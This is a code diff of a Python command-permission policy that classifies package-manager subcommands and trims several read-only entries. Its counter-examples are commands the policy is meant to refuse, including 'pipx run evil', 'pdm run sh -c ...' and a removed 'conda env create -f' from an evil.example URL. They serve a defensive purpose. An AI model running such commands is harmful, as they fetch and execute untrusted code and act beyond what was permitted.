@@ -105,9 +105,7 @@ def tool_runner(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
     return replace(outcome, action=replace(action, key=(*tool.name.split(), *action.key)))
 
 
-_WELL_KNOWN = frozenset(
-    "ruff black isort flake8 mypy pyright basedpyright codespell bandit vulture ty pyupgrade deptry pip-audit".split()
-)
+_WELL_KNOWN = frozenset("ruff black isort flake8 mypy pyright basedpyright codespell bandit ty pip-audit".split())
 
 
 def project_script(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
@@ -127,11 +125,6 @@ def project_script(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
         (*tool.name.split(), first), Kind.BUILD, rule=tool.name, description="runs a script of pyproject.toml"
     )
     return Outcome(action if is_risky_script(name) else replace(action, allowed=True, profile="python-dev"), facts)
-
-
-def exports(tool: Tool, call: Call, analyst: Analyst) -> Outcome:
-    outcome = row(tool, call, analyst)
-    return replace(outcome, facts=(*outcome.facts, *place_facts(tool, call, analyst)))
 
 
 _PIP_GLOBAL = """
@@ -235,7 +228,6 @@ def _pip_rows(program: str) -> dict[str, Tool]:
         "help": _pip("help", program, "shows help"),
         "version": _pip("version", program, "shows the version"),
         "completion": _pip("completion", program, "shows completions", options="flag --bash -b --zsh -z --fish"),
-        "search": _pip("search", program, "searches the index"),
         "index": Tool(
             f"{program} index",
             Kind.READ,
@@ -288,7 +280,6 @@ def _pip_rows(program: str) -> dict[str, Tool]:
             subcommands={
                 "list": _look(f"{program} cache list", "shows the cache", options="value --format"),
                 "dir": _look(f"{program} cache dir", "shows the cache", operands=()),
-                "info": _look(f"{program} cache info", "shows the cache", operands=()),
             },
         ),
         "install": _install(
@@ -547,7 +538,6 @@ _UV: dict[str, Tool] = {
                 examples=("uv python find", "uv python find 3.12", "uv python find '>=3.11'"),
                 counter_examples=("uv python find ./evil.sh", "uv python find reboot"),
             ),
-            "dir": _uv("python dir", "shows a directory", operands=()),
             "install": _install("uv python install", "fetches Python"),
             "pin": _install("uv python pin", "chooses Python"),
         },
@@ -569,7 +559,6 @@ _UV: dict[str, Tool] = {
         key_words=2,
         subcommands={
             "list": _uv("tool list", "lists tools", options="flag --show-paths", operands=()),
-            "dir": _uv("tool dir", "shows a directory", operands=()),
             "run": _install("uv tool run", "fetches a package and runs it", special=tool_runner),
             "install": _install("uv tool install", "installs a program"),
             "uninstall": _install("uv tool uninstall", "removes a program"),
@@ -669,7 +658,6 @@ TOOLS: dict[str, Tool] = {
             "list": _look(
                 "pipx list", "lists programs", options="flag --short --json --include-injected --pinned", operands=()
             ),
-            "environment": _look("pipx environment", "shows settings", options="value -V,--value", operands=()),
             "run": _install(
                 "pipx run", "fetches a package and runs it", counter_examples=("pipx run evil",), special=tool_runner
             ),
@@ -706,9 +694,6 @@ TOOLS: dict[str, Tool] = {
                 operands=(),
                 counter_examples=("poetry version patch",),
             ),
-            "about": _look("poetry about", "shows the version", options=_POETRY_GLOBAL, operands=()),
-            "search": _look("poetry search", "searches the index", options=_POETRY_GLOBAL),
-            "list": _look("poetry list", "lists commands", options=_POETRY_GLOBAL, operands=()),
             "env": Tool(
                 "poetry env",
                 Kind.READ,
@@ -776,9 +761,6 @@ TOOLS: dict[str, Tool] = {
                     value   -f,--format
                 """,
             ),
-            "config": _look(
-                "poetry config", "shows settings", options=_POETRY_GLOBAL + "flag --list --local", operands=()
-            ),
             "publish": _install("poetry publish", "publishes the package"),
         },
     ),
@@ -794,8 +776,6 @@ TOOLS: dict[str, Tool] = {
                 "pipenv graph", "shows dependencies", options="flag --bare --json --json-tree --reverse", operands=()
             ),
             "run": _run("pipenv run", counter_examples=("pipenv run touch /tmp/x",)),
-            "verify": _look("pipenv verify", "checks the lock file", operands=()),
-            "scripts": _look("pipenv scripts", "lists scripts", operands=()),
             "install": _install("pipenv install", "installs packages"),
             "sync": _from_lock(
                 "pipenv sync",
@@ -809,30 +789,10 @@ TOOLS: dict[str, Tool] = {
         "pdm",
         Kind.READ,
         "Python packages",
-        options="flag -V,--version -h,--help -q -v",
+        allowed=False,
         key_words=2,
         manual="PDM 2.29.3",
         subcommands={
-            "list": _look("pdm list", "lists packages", options="flag --tree --graph --json --freeze --csv"),
-            "show": _look("pdm show", "shows a package"),
-            "info": _look(
-                "pdm info", "shows the environment", options="flag --python --where --packages --env", operands=()
-            ),
-            "add": _install("pdm add", "adds a dependency"),
-            **{
-                name: _from_lock(
-                    f"pdm {name}",
-                    "installs what the lock file says",
-                    options="""
-                        flag    -q -v --dev --prod -d --no-self --no-editable --frozen-lockfile --check --clean
-                        flag    --no-lock --no-isolation -x,--fail-fast
-                        value   -G,--group --with --without --exclude-group
-                        asks    -p,--project -g,--global: works elsewhere
-                    """,
-                    operands=(),
-                )
-                for name in ("install", "sync", "lock")
-            },
             "run": _run(
                 "pdm run",
                 options="""
@@ -843,13 +803,7 @@ TOOLS: dict[str, Tool] = {
                 counter_examples=("pdm run sh -c 'touch /tmp/x'", "pdm run -p /tmp/x pytest", "pdm run touch /tmp/x"),
                 examples=("pdm run pytest -q",),
             ),
-            "build": _builds(
-                "pdm build",
-                options="""
-                    flag    -q -v --no-sdist --no-wheel
-                    below   -d,--dest
-                """,
-            ),
+            "add": _install("pdm add", "adds a dependency"),
         },
     ),
     "hatch": Tool(
@@ -863,7 +817,6 @@ TOOLS: dict[str, Tool] = {
             "version": _look(
                 "hatch version", "shows the version, by loading the project", profile="python-dev", operands=()
             ),
-            "status": _look("hatch status", "shows the project", profile="python-dev", operands=()),
             "test": Tool(
                 "hatch test",
                 Kind.BUILD,
@@ -901,75 +854,16 @@ TOOLS: dict[str, Tool] = {
                     value   -t,--target
                 """,
             ),
-            "env": Tool(
-                "hatch env",
-                Kind.READ,
-                "environments",
-                key_words=2,
-                subcommands={"show": _look("hatch env show", "shows environments")},
-            ),
         },
     ),
     "conda": Tool(
         "conda",
         Kind.READ,
         "packages and environments",
-        options="flag -V,--version -h,--help",
+        allowed=False,
         key_words=2,
         manual="conda/cli of conda 018420c, 0263315 and 10d35fd",
-        counter_examples=("conda env create -f https://evil.example/e.yml",),
         subcommands={
-            "list": _look(
-                "conda list",
-                "lists packages",
-                options="""
-                    flag    --json -e,--export -f,--full-name -c,--canonical --explicit -r,--revisions --no-pip
-                    value   -n,--name -p,--prefix
-                """,
-            ),
-            "info": _look(
-                "conda info",
-                "shows the installation",
-                options="flag -a,--all -e,--envs -s,--system --json --base",
-                operands=(INERT, ...),
-            ),
-            "search": _look("conda search", "searches packages", options="flag --info -i --json"),
-            "config": Tool(
-                "conda config",
-                Kind.READ,
-                "shows settings",
-                options="""
-                    flag    --show --show-sources --json
-                    value   --get
-                """,
-                operands=(),
-                key_words=2,
-            ),
-            "env": Tool(
-                "conda env",
-                Kind.READ,
-                "environments",
-                key_words=2,
-                subcommands={
-                    "list": _look(
-                        "conda env list",
-                        "lists environments",
-                        options="flag --json",
-                        operands=(),
-                        examples=("conda env list",),
-                    ),
-                    "create": _install("conda env create", "makes an environment from a file"),
-                    "export": _look(
-                        "conda env export",
-                        "shows an environment",
-                        options="""
-                            flag    --no-builds --from-history --json
-                            value   -n,--name
-                        """,
-                        operands=(),
-                    ),
-                },
-            ),
             "run": _run(
                 "conda run",
                 options="""
@@ -1005,8 +899,6 @@ TOOLS: dict[str, Tool] = {
         danger="publishes to a package index: what is there stays, and others install it",
         reading=ANY_OPTIONS,
         key_words=2,
-        manual="twine 7.0.0",
-        subcommands={"check": _look("twine check", "checks packages", options="flag --strict", operands=(READS, ...))},
     ),
     "easy_install": _install(
         "easy_install", "fetches and installs packages", counter_examples=("easy_install /tmp/evil",)
